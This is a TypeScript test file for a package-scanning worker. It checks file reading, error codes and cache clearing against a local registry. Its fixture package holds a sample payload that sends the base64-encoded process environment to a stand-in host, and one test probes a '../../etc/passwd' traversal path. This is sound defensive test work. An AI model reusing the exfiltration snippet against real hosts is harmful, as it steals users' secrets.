import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { WorkerPool, WorkerPoolError } from '../../../src/worker/pool';
import type { ScanSettings } from '../../../src/worker/scanHandlers';
import { packFiles, startVerdaccio, type Verdaccio } from '../../support/verdaccio';

const script = path.join(__dirname, '../../../dist/worker.js');
const tmp = mkdtempSync(path.join(os.tmpdir(), 'takedown-pkgfiles-test-'));
const starting = startVerdaccio();
let reg: Verdaccio;
let pool: WorkerPool;

// Inert: the host is a reserved .invalid name and nothing here is ever run.
const INDEX = ['const https = require("https");', '', 'function send() {', '  https.get("https://collect.invalid/?d=" + Buffer.from(JSON.stringify(process.env)).toString("base64"));', '}', 'send();', ''].join('\n');

before(async () => {
  assert.ok(existsSync(script), 'dist/worker.js is built (npm run build:worker)');
  reg = await starting;
  await reg.publish({ packageJson: { name: 'shown-widget', version: '1.0.0', main: 'index.js' }, files: { 'index.js': INDEX, 'lib/deep/util.js': 'module.exports = 1;\n', 'logo.png': Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0, 1, 2, 3]) } });
  pool = new WorkerPool({ script, size: 1 });
});

after(async () => {
  await pool?.dispose();
  await reg?.stop();
  rmSync(tmp, { recursive: true, force: true });
});

function settings(extra: Partial<ScanSettings> = {}): ScanSettings {
  return { trustedWorkspace: true, offline: false, registry: reg.url, userConfigPath: path.join(tmp, 'no-npmrc'), ...extra };
}

test('the worker reads one file of a registry package as text, for the read-only evidence document', async () => {
  const file = await pool.run({ type: 'readPackageFile', name: 'shown-widget', version: '1.0.0', path: 'index.js', settings: settings() });
  assert.deepEqual(file, { path: 'index.js', text: INDEX, truncated: false, binary: false, size: Buffer.byteLength(INDEX) });
  const deep = await pool.run({ type: 'readPackageFile', name: 'shown-widget', version: '1.0.0', path: '/lib/deep/util.js', settings: settings() });
  assert.equal(deep.text, 'module.exports = 1;\n');
  const binary = await pool.run({ type: 'readPackageFile', name: 'shown-widget', version: '1.0.0', path: 'logo.png', settings: settings() });
  assert.deepEqual([binary.text, binary.binary, binary.note], [undefined, true, 'binary file: not shown']);
  const cut = await pool.run({ type: 'readPackageFile', name: 'shown-widget', version: '1.0.0', path: 'index.js', maxChars: 10, settings: settings() });
  assert.deepEqual([cut.text, cut.truncated, cut.note], [INDEX.slice(0, 10), true, `cut at 10 characters of ${INDEX.length}`]);
});

test('a file that is not in the package, and offline mode, are errors with their own codes', async () => {
  await assert.rejects(pool.run({ type: 'readPackageFile', name: 'shown-widget', version: '1.0.0', path: '../../etc/passwd', settings: settings() }), (e: WorkerPoolError) => e.code === 'E_WORKER' && e.causeCode === 'E_NOT_FOUND');
  await assert.rejects(pool.run({ type: 'readPackageFile', name: 'shown-widget', version: '9.9.9', path: 'index.js', settings: settings({ offline: true }) }), (e: WorkerPoolError) => e.causeCode === 'E_OFFLINE');
  await assert.rejects(pool.run({ type: 'readPackageFile', name: 'shown-widget', version: '1.0.0', path: 'index.js', settings: { offline: false } as unknown as ScanSettings }), (e: WorkerPoolError) => e.code === 'E_PROTOCOL');
});

test('a scanned local .tgz is read through the same capped reader', async () => {
  const tgz = path.join(tmp, 'local-widget-2.0.0.tgz');
  writeFileSync(tgz, packFiles({ 'package.json': '{"name":"local-widget","version":"2.0.0"}', 'main.js': 'exports.x = 1;\n' }));
  const file = await pool.run({ type: 'readPackageFile', name: 'local-widget', version: '2.0.0', path: 'main.js', source: tgz, settings: settings() });
  assert.equal(file.text, 'exports.x = 1;\n');
});

test('Clear Cache empties the disk verdict cache', async () => {
  const cacheDir = path.join(tmp, 'verdicts');
  // No cool-down: a verdict with a cool-down finding (just published) is not cached.
  const result = await pool.run({ type: 'scanRegistry', name: 'shown-widget', spec: '1.0.0', settings: settings({ cacheDir, metadata: { coolDownHours: 0 } }) });
  assert.equal(result.version, "1.0.0", JSON.stringify(result).slice(0, 600));
  assert.notEqual(result.verdict, "unknown", result.reason);
  assert.ok(existsSync(cacheDir) && readdirSync(cacheDir).length > 0, 'the scan wrote a verdict to the cache');
  const cleared = await pool.run({ type: 'clearCaches', settings: settings({ cacheDir }) });
  assert.deepEqual(cleared, { cleared: ['worker memory', 'verdict cache on disk'] });
  assert.equal(existsSync(cacheDir), false);
  mkdirSync(cacheDir, { recursive: true });
});
